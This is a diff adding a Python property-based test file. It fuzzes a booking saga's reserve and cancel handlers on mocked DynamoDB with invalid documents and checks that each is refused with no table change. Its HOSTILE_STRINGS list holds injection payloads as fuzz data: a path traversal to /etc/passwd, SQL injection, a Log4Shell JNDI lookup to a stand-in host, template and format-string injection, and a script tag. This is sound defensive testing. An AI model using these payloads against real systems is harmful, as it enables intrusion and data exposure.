@@ -1,0 +1,511 @@
+"""Hostile booking documents, drawn by hypothesis, against the real handlers on moto's DynamoDB.
+
+The contract (README, "The booking (execution input)"): anything that is not a valid booking ends in
+``InvalidBooking`` before anything is written, never in another error. Each refused document is sent to the
+reserve and the cancel of every service, under the state names the state machine gives them: reserve must raise
+exactly ``InvalidBooking``, prefixed with the step and naming the offending field; cancel must answer
+``NOTHING_TO_CANCEL`` with the same reason; and no table may change (no record, no chaos counter, no capacity).
+
+Documents are a valid booking with one certainly invalid mutation (the mutations are invalid by construction,
+not by re-implementing the validator), the same mutation among garbage in every other field, non-objects, and
+arbitrary JSON-like values. The conftest fixtures are function-scoped, so one set of tables serves all of a
+test's examples: each example snapshots the tables before and after, and each document built from the valid
+base gets a booking id no other example uses.
+"""
+
+import copy
+import itertools
+import json
+import operator
+import string
+from dataclasses import dataclass
+
+import pytest
+from hypothesis import HealthCheck, event, given, settings
+from hypothesis import strategies as st
+
+import booking as contract
+from booking import BookingCancelled, BusinessError, InvalidBooking, PaymentDeclined, SoldOut
+from tests.factories import booking
+from tests.lambdas.conftest import PAYMENT_LIMIT, TABLES
+
+# The state names the stack gives each service's reserve and cancel (stacks/booking_saga.py, SERVICES).
+STEPS = {
+    "flight": ("ReserveFlight", "CancelFlight"),
+    "hotel": ("ReserveHotel", "CancelHotel"),
+    "payment": ("ProcessPayment", "RefundPayment"),
+}
+# Plenty, so that valid documents never sell out and the capacity checks compare exact numbers.
+STOCKED = {"flight": ("NH101", 1_000_000), "hotel": ("TOKYO-GRAND", 1_000_000)}
+
+SERVICES = ("flight", "hotel", "payment")
+FUNCTIONS = tuple(f"{service}.{action}" for service in SERVICES for action in ("reserve", "cancel"))
+ID_CHARS = string.ascii_letters + string.digits + "_-"
+UPPER = string.ascii_uppercase
+SECTIONS = {"flight": ("flight_id", "seats"), "hotel": ("hotel_id", "rooms"), "payment": ("amount", "currency")}
+TOP_LEVEL = ("booking_id", "customer_id", *SECTIONS)
+STEP_KEYS = ("fail_at", "fail_cancel", "timeout_after_write")
+# Documented chaos keys, plus whatever the contract knows by now (new kinds are being added): never "unknown".
+KNOWN_CHAOS = {*STEP_KEYS, "transient", "duplicate", *getattr(contract, "_CHAOS", ())}
+MAX_REASON = 256  # a refusal names the field; it never echoes a 100 kB value back into the execution history
+
+HOSTILE_STRINGS = [
+    "",
+    " ",
+    "trip 0001",
+    "../../etc/passwd",
+    "..",
+    "trip/0001",
+    "trip.0001",
+    "' OR 1=1 --",
+    '" OR ""="',
+    "1; DROP TABLE bookings",
+    "${jndi:ldap://evil.example/x}",
+    "${booking_id}",
+    "{{7*7}}",
+    "%s%s%n",
+    "<script>alert(1)</script>",
+    "#pk",
+    "booking#trip-0001",
+    "inventory#NH101",
+    ":quantity",
+    "trip-0001\n",
+    "trip-0001\r\n",
+    "\ntrip-0001",
+    "trip\x000001",
+    "\x00",
+    "trip\u202e1000",  # right-to-left override
+    "\u200ftrip",  # right-to-left mark
+    "\u200btrip",  # zero-width space
+    "trip\ufeff",  # byte order mark
+    "tr\u00edp",  # i with acute
+    "tr\u0456p",  # Cyrillic i
+    "\u0422RIP",  # Cyrillic T
+    "\uff54\uff52\uff49\uff50",  # full-width "trip"
+    "NH\uff11\uff10\uff11",  # full-width digits
+    "\u0663\u0664",  # Arabic-Indic digits
+    "x\u00b2",  # superscript two
+    "trip\U0001f680",  # rocket
+    "\U0001f3e8",  # hotel emoji
+    "trip\\0001",
+    "trip+0001",
+    "trip*",
+]
+
+# JSON-like values (Python's json also accepts NaN and Infinity, so floats are left unrestricted).
+SCALARS = st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20)
+JSON_VALUES = st.recursive(
+    SCALARS,
+    lambda children: st.lists(children, max_size=3) | st.dictionaries(st.text(max_size=10), children, max_size=3),
+    max_leaves=8,
+)
+KINDS = {
+    "null": st.none(),
+    "bool": st.booleans(),
+    "int": st.integers(),
+    "float": st.floats(),
+    "str": st.text(max_size=20),
+    "list": st.lists(JSON_VALUES, max_size=3),
+    "object": st.dictionaries(st.text(max_size=10), JSON_VALUES, max_size=3),
+}
+
+
+def json_except(*kinds: str) -> st.SearchStrategy:
+    """Any JSON-like value of another kind (built, not filtered, so hypothesis never gives up on a draw)."""
+    return st.one_of(*(strategy for kind, strategy in KINDS.items() if kind not in kinds))
+
+
+NON_OBJECTS = json_except("object")
+
+
+def _huge(unit: str, times: int) -> str:
+    return unit * times
+
+
+def _spliced(head: str, bad: str, tail: str) -> str:
+    return head + bad + tail
+
+
+VALID = {
+    "id": st.text(ID_CHARS, min_size=1, max_size=64),
+    "units": st.integers(1, 9),
+    # whole amounts, and cents as floats: n / 100 prints with at most two decimals below 1e13
+    "amount": st.integers(1, 10**9) | st.integers(1, 10**11).map(lambda cents: cents / 100),
+    "currency": st.text(UPPER, min_size=3, max_size=3),
+}
+
+INVALID = {
+    "id": st.one_of(
+        json_except("str"),
+        st.sampled_from(HOSTILE_STRINGS),
+        st.text(ID_CHARS, min_size=65, max_size=200),
+        st.builds(
+            _huge, st.sampled_from(["x", "ab-_", "\u00e9", "\U0001f680", "\x00"]), st.sampled_from([65, 100_000])
+        ),
+        st.builds(
+            _spliced, st.text(ID_CHARS, max_size=30), st.characters(exclude_characters=ID_CHARS), st.text(ID_CHARS)
+        ),
+    ),
+    "units": st.one_of(
+        st.integers(max_value=0),
+        st.integers(min_value=10),
+        st.floats(),  # 2.0 included: a JSON float is not a count
+        st.sampled_from([True, False, 10**30, -(10**30), 2**63, 2**64, 2.0, 1e308, "2", "", [2], {"n": 2}, None]),
+        json_except("int"),  # booleans among them: True is an int in Python
+    ),
+    "amount": st.one_of(
+        st.integers(max_value=0),
+        st.integers(min_value=10**9 + 1),
+        st.sampled_from([10**30, 2**64, 1e308, float("inf"), float("nan"), -0.0, 1e9 + 0.01, 0.001, 1.001, 84000.005]),
+        st.floats(max_value=0.0),
+        st.floats(min_value=1e9, exclude_min=True),
+        st.floats(min_value=0.0, max_value=0.01, exclude_min=True, exclude_max=True),
+        # three decimals, the last one not zero (below 1e13 a float prints them exactly)
+        st.integers(1, 10**12).filter(lambda mills: mills % 10).map(lambda mills: mills / 1000),
+        st.sampled_from([True, False, "84000", "1e3", "", None, [84000], {"amount": 84000}]),
+        json_except("int", "float"),
+    ),
+    "currency": st.one_of(
+        json_except("str"),
+        st.text(UPPER, max_size=8).filter(lambda code: len(code) != 3),
+        st.builds(
+            _spliced, st.text(UPPER, max_size=1), st.characters(exclude_characters=UPPER), st.text(UPPER, max_size=1)
+        ),
+        st.sampled_from(["jpy", "Jpy", "JPY\n", " JPY", "JP", "JPYY", "\u0408\u0420Y", "\uff2a\uff30\uff39", "US$"]),
+    ),
+}
+LEAVES = {
+    ("booking_id",): "id",
+    ("customer_id",): "id",
+    ("flight", "flight_id"): "id",
+    ("flight", "seats"): "units",
+    ("hotel", "hotel_id"): "id",
+    ("hotel", "rooms"): "units",
+    ("payment", "amount"): "amount",
+    ("payment", "currency"): "currency",
+}
+
+UNKNOWN_FUNCTIONS = st.sampled_from(
+    ["car.reserve", "flight.book", "flight", "Flight.reserve", "flight.reserve ", "flight.Reserve", "*", "flight.*"]
+) | st.text(max_size=20).filter(lambda name: name not in FUNCTIONS)
+CHAOS_VALID = {
+    **{key: st.sampled_from(SERVICES) for key in STEP_KEYS},
+    "transient": st.dictionaries(st.sampled_from(FUNCTIONS), st.integers(1, 8), max_size=3),
+    "duplicate": st.lists(st.sampled_from(FUNCTIONS), max_size=6, unique=True),
+}
+_BAD_COUNTS = st.one_of(
+    st.integers(max_value=0),
+    st.integers(min_value=9),
+    st.sampled_from([True, False, 1.0, 2.5, "1", None, [1]]),
+    json_except("int"),
+)
+_BAD_ENTRIES = st.one_of(
+    st.builds(lambda name, count: {name: count}, UNKNOWN_FUNCTIONS, st.integers(1, 8)),
+    st.builds(lambda name, count: {name: count}, st.sampled_from(FUNCTIONS), _BAD_COUNTS),
+)
+CHAOS_INVALID = {
+    **{
+        key: st.sampled_from(["car", "Flight", "flight ", "flights", "flight.reserve", "ReserveFlight", "", None])
+        | JSON_VALUES.filter(lambda value: value not in SERVICES)
+        for key in STEP_KEYS
+    },
+    "transient": st.one_of(
+        NON_OBJECTS,  # null, and [["flight.reserve", 1]] among them
+        st.builds(operator.or_, CHAOS_VALID["transient"], _BAD_ENTRIES),  # a bad entry among good ones
+    ),
+    "duplicate": st.one_of(
+        json_except("list"),  # "flight.reserve" and null among them
+        st.builds(
+            lambda good, bad, at: [*good[:at], bad, *good[at:]],
+            CHAOS_VALID["duplicate"],
+            UNKNOWN_FUNCTIONS | JSON_VALUES.filter(lambda value: value not in FUNCTIONS),
+            st.integers(0, 6),
+        ),
+    ),
+}
+
+
+def unknown_keys(known) -> st.SearchStrategy[str]:
+    lookalikes = [
+        variant for name in sorted(known) for variant in (name.upper(), f"{name} ", f"{name}\x00", f"_{name}")
+    ]
+    samples = ["", "__proto__", "constructor", "pk", "$where", "#pk", "x" * 100, *lookalikes]
+    return st.sampled_from(samples) | st.text(max_size=70).filter(lambda key: key not in known)
+
+
+@dataclass(frozen=True)
+class Mutation:
+    """Set (or delete) the value at ``path``; ``()`` replaces the whole document. ``names``: what a refusal names."""
+
+    path: tuple[str, ...]
+    value: object = None
+    delete: bool = False
+    names: tuple[str, ...] = ()
+
+    def apply(self, document: dict) -> object:
+        if not self.path:
+            return self.value
+        document = copy.deepcopy(document)
+        parent = document
+        for key in self.path[:-1]:
+            if not isinstance(parent.get(key), dict):
+                parent[key] = {}  # the mutation still lands (on garbage, an empty section is invalid anyway)
+            parent = parent[key]
+        if self.delete:
+            parent.pop(self.path[-1], None)
+        else:
+            parent[self.path[-1]] = self.value
+        return document
+
+
+def _set(path: tuple[str, ...], values: st.SearchStrategy, names: tuple[str, ...]) -> st.SearchStrategy[Mutation]:
+    return values.map(lambda value: Mutation(path, value, names=names))
+
+
+def _unknown_field(section: str | None, known) -> st.SearchStrategy[Mutation]:
+    path = (section,) if section else ()
+    return st.builds(
+        lambda key, value: Mutation((*path, key), value, names=(section or "booking", key[:64])),
+        unknown_keys(known),
+        JSON_VALUES,
+    )
+
+
+# Each of these makes any document invalid, whatever its other fields hold.
+INVALID_MUTATIONS = st.one_of(
+    *(_set(path, INVALID[kind], (".".join(path),)) for path, kind in LEAVES.items()),
+    st.sampled_from([*((key,) for key in TOP_LEVEL), *((s, f) for s, fields in SECTIONS.items() for f in fields)]).map(
+        lambda path: Mutation(path, delete=True, names=(path[0] if len(path) > 1 else "booking", path[-1]))
+    ),
+    *(_set((section,), NON_OBJECTS, (section,)) for section in SECTIONS),
+    _set((), NON_OBJECTS, ("booking",)),
+    _unknown_field(None, {*TOP_LEVEL, "chaos"}),
+    *(_unknown_field(section, set(fields)) for section, fields in SECTIONS.items()),
+    # a null chaos section means "no chaos" (see the report); any other non-object is refused
+    _set(("chaos",), json_except("object", "null"), ("chaos",)),
+    _unknown_field("chaos", KNOWN_CHAOS),
+    *(_set(("chaos", key), values, (f"chaos.{key}",)) for key, values in CHAOS_INVALID.items()),
+)
+
+
+def _either(valid: st.SearchStrategy, invalid: st.SearchStrategy) -> st.SearchStrategy:
+    """Valid half of the time (a plain one_of would weigh each branch of ``invalid`` as much as ``valid``)."""
+    return st.booleans().flatmap(lambda ok: valid if ok else invalid | JSON_VALUES)
+
+
+def _section(name: str) -> st.SearchStrategy:
+    fields = {field: _either(VALID[LEAVES[name, field]], INVALID[LEAVES[name, field]]) for field in SECTIONS[name]}
+    return st.fixed_dictionaries(fields) | JSON_VALUES
+
+
+# Objects with anything in any field, and maybe a few extra fields: now and then valid, mostly not.
+GARBAGE_OBJECTS = st.builds(
+    operator.or_,
+    st.dictionaries(st.text(max_size=12), JSON_VALUES, max_size=2),
+    st.fixed_dictionaries(
+        {
+            "booking_id": _either(VALID["id"], INVALID["id"]),
+            "customer_id": _either(VALID["id"], INVALID["id"]),
+            **{name: _section(name) for name in SECTIONS},
+        },
+        optional={"chaos": st.fixed_dictionaries({}, optional=CHAOS_VALID) | JSON_VALUES},
+    ),
+)
+# Certainly valid bookings, most for the stocked flight and hotel and within the payment limit.
+FRESH_ID = "fresh-id"  # the test swaps in an id no other example used (drawn ids repeat, and a repeat replays)
+VALID_DOCUMENTS = st.fixed_dictionaries(
+    {
+        "booking_id": st.just(FRESH_ID) | VALID["id"],
+        "customer_id": VALID["id"],
+        "flight": st.fixed_dictionaries(
+            {"flight_id": st.just(STOCKED["flight"][0]) | VALID["id"], "seats": VALID["units"]}
+        ),
+        "hotel": st.fixed_dictionaries(
+            {"hotel_id": st.just(STOCKED["hotel"][0]) | VALID["id"], "rooms": VALID["units"]}
+        ),
+        "payment": st.fixed_dictionaries(
+            {"amount": st.integers(1, PAYMENT_LIMIT) | VALID["amount"], "currency": VALID["currency"]}
+        ),
+    },
+    optional={"chaos": st.fixed_dictionaries({}, optional=CHAOS_VALID)},
+)
+ALL_PATHS = [*LEAVES, *((section,) for section in SECTIONS), ("chaos",), *(("chaos", key) for key in CHAOS_VALID)]
+ANYTHING = st.one_of(
+    VALID_DOCUMENTS,
+    st.builds(
+        lambda document, mutation: mutation.apply(document),
+        VALID_DOCUMENTS,
+        st.builds(Mutation, st.sampled_from(ALL_PATHS), JSON_VALUES) | INVALID_MUTATIONS,
+    ),
+    GARBAGE_OBJECTS,
+    JSON_VALUES,
+)
+
+NON_OBJECT_DOCUMENTS = st.one_of(
+    NON_OBJECTS,
+    st.sampled_from([None, 0, 1.5, True, "", [], [booking()], json.dumps(booking()), list(booking().items())]),
+)
+
+HYPOTHESIS = {
+    "deadline": None,
+    # the tables live as long as the test function, not one example: each example snapshots them itself
+    "suppress_health_check": [HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
+}
+_unique_ids = (f"hostile-{n}" for n in itertools.count())
+
+
+@pytest.fixture
+def catalog(stock) -> None:
+    for service, (resource_id, available) in STOCKED.items():
+        stock(service, resource_id, available)
+
+
+def snapshot(dynamodb) -> dict[str, dict[str, dict]]:
+    return {
+        service: {item["pk"]: item for item in dynamodb.Table(table).scan()["Items"]}
+        for service, table in TABLES.items()
+    }
+
+
+def assert_refused_without_a_trace(
+    dynamodb, invoke, document: object, names: tuple[str, ...] = (), *, pristine: bool = True
+) -> None:
+    """Every reserve raises InvalidBooking (step-prefixed, naming ``names``), every cancel has nothing to do,
+    and not one item of any table changed."""
+    before = snapshot(dynamodb)
+    for service, (reserve_step, cancel_step) in STEPS.items():
+        with pytest.raises(InvalidBooking) as refused:
+            invoke(service, "reserve", document, reserve_step)
+        assert type(refused.value) is InvalidBooking
+        message = str(refused.value)
+        assert message.startswith(f"{reserve_step}: "), message
+        reason = message.removeprefix(f"{reserve_step}: ")
+        assert len(reason) <= MAX_REASON, reason
+        for name in names:
+            assert name in reason, f"{reason!r} does not name {name!r}"
+
+        cancelled = invoke(service, "cancel", document, cancel_step)
+        assert cancelled == {"service": service, "status": "NOTHING_TO_CANCEL", "released": False, "reason": reason}
+
+    after = snapshot(dynamodb)
+    assert after == before
+    if not pristine:
+        return  # earlier examples of this test wrote valid bookings
+    # nothing but the catalog, untouched: no booking record, no tombstone, no chaos counter, no capacity taken
+    assert {service: list(items) for service, items in after.items()} == {
+        service: [f"inventory#{STOCKED[service][0]}"] if service in STOCKED else [] for service in TABLES
+    }
+    for service, (resource_id, available) in STOCKED.items():
+        assert after[service][f"inventory#{resource_id}"]["available"] == available
+
+
+def test_the_valid_base_booking_is_reserved_and_cancelled_by_every_service(dynamodb, catalog, invoke):
+    """The control: the base every mutation starts from passes, and the snapshots do see writes."""
+    document = booking("control-0001")
+    before = snapshot(dynamodb)
+
+    for service, (reserve_step, _) in STEPS.items():
+        assert invoke(service, "reserve", document, reserve_step)["status"] == "RESERVED"
+    reserved = snapshot(dynamodb)
+    for service, (_, cancel_step) in STEPS.items():
+        assert invoke(service, "cancel", document, cancel_step)["released"] is True
+
+    assert reserved != before
+    assert all(items["booking#control-0001"]["status"] == "RESERVED" for items in reserved.values())
+    assert reserved["flight"]["inventory#NH101"]["available"] == STOCKED["flight"][1] - 2
+    assert reserved["hotel"]["inventory#TOKYO-GRAND"]["available"] == STOCKED["hotel"][1] - 1
+    assert snapshot(dynamodb)["flight"]["inventory#NH101"]["available"] == STOCKED["flight"][1]
+
+
+def test_the_hostile_samples_are_outside_the_id_alphabet():
+    """Keeps the hand-written samples honest: each one breaks the documented id rule."""
+    for sample in HOSTILE_STRINGS:
+        assert sample == "" or set(sample) - set(ID_CHARS), repr(sample)
+
+
+@settings(max_examples=200, **HYPOTHESIS)
+@given(mutation=INVALID_MUTATIONS)
+def test_a_valid_booking_with_one_hostile_change_is_refused_naming_it(dynamodb, catalog, invoke, mutation):
+    document = mutation.apply(booking(next(_unique_ids)))
+
+    assert_refused_without_a_trace(dynamodb, invoke, document, mutation.names)
+
+
+@settings(max_examples=150, **HYPOTHESIS)
+@given(garbage=GARBAGE_OBJECTS, mutation=INVALID_MUTATIONS)
+def test_a_hostile_change_among_garbage_is_still_refused(dynamodb, catalog, invoke, garbage, mutation):
+    assert_refused_without_a_trace(dynamodb, invoke, mutation.apply(garbage))
+
+
+@settings(max_examples=100, **HYPOTHESIS)
+@given(document=NON_OBJECT_DOCUMENTS)
+def test_a_document_that_is_not_an_object_is_refused(dynamodb, catalog, invoke, document):
+    assert_refused_without_a_trace(dynamodb, invoke, document, ("booking must be an object",))
+
+
+@settings(max_examples=150, **HYPOTHESIS)
+@given(document=ANYTHING)
+def test_any_document_ends_in_a_result_or_a_business_error_never_a_crash(
+    monkeypatch, dynamodb, catalog, invoke, document
+):
+    # chaos is still validated where it is disabled, but a valid chaos section cannot then force a failure
+    monkeypatch.setenv("CHAOS_ENABLED", "false")
+    if isinstance(document, dict) and document.get("booking_id") == FRESH_ID:
+        document = document | {"booking_id": next(_unique_ids)}
+    before = snapshot(dynamodb)
+    outcomes = {}
+    for service, (reserve_step, _) in STEPS.items():
+        try:
+            outcomes[service] = invoke(service, "reserve", document, reserve_step)["status"]
+        except BusinessError as error:  # anything else fails the test
+            assert str(error).startswith(f"{reserve_step}: "), error
+            outcomes[service] = type(error).__name__
+    event(" ".join(sorted(set(outcomes.values()))))
+
+    cancelled = {
+        service: invoke(service, "cancel", document, cancel_step) for service, (_, cancel_step) in STEPS.items()
+    }
+    if "InvalidBooking" in outcomes.values():
+        # the document is the same for every service, so is the verdict
+        assert set(outcomes.values()) == {"InvalidBooking"}, outcomes
+        assert {cancel["status"] for cancel in cancelled.values()} == {"NOTHING_TO_CANCEL"}
+        assert snapshot(dynamodb) == before
+    else:
+        # reserved, sold out, declined, or cancelled by an earlier example with the same id: then cancelled
+        assert {cancel["status"] for cancel in cancelled.values()} == {"CANCELLED"}, cancelled
+
+
+SINGLE_FIELDS = {
+    **{path: (VALID[kind], INVALID[kind]) for path, kind in LEAVES.items()},
+    **{("chaos", key): (CHAOS_VALID[key], CHAOS_INVALID[key]) for key in CHAOS_VALID},
+}
+
+
+@pytest.mark.parametrize("path", SINGLE_FIELDS, ids=".".join)
+@settings(max_examples=20, **HYPOTHESIS)
+@given(data=st.data())
+def test_one_field_changed_is_refused_if_and_only_if_the_new_value_is_invalid(
+    monkeypatch, dynamodb, catalog, invoke, path, data
+):
+    monkeypatch.setenv("CHAOS_ENABLED", "false")  # a valid chaos value must be accepted, not acted on
+    valid, invalid = SINGLE_FIELDS[path]
+    is_valid = data.draw(st.booleans(), label="valid")
+    value = data.draw(valid if is_valid else invalid, label="value")
+    document = Mutation(path, value).apply(booking(next(_unique_ids)))
+    event("valid value" if is_valid else "invalid value")
+
+    if not is_valid:
+        assert_refused_without_a_trace(dynamodb, invoke, document, (".".join(path),), pristine=False)
+        return
+    for service, (reserve_step, cancel_step) in STEPS.items():
+        try:
+            result = invoke(service, "reserve", document, reserve_step)
+            assert result["status"] == "RESERVED"
+        except (SoldOut, PaymentDeclined, BookingCancelled):
+            pass  # accepted, then refused by the business: unknown flight or hotel, above the limit, id reused
+        assert invoke(service, "cancel", document, cancel_step)["status"] == "CANCELLED"
+
+
+def test_an_amount_with_more_digits_than_python_prints_is_refused(dynamodb, catalog, invoke):
+    """str() refuses ints of over 4300 digits; the validator must refuse them before it prints one."""
+    assert_refused_without_a_trace(dynamodb, invoke, booking(payment={"amount": 10**4300, "currency": "JPY"}))
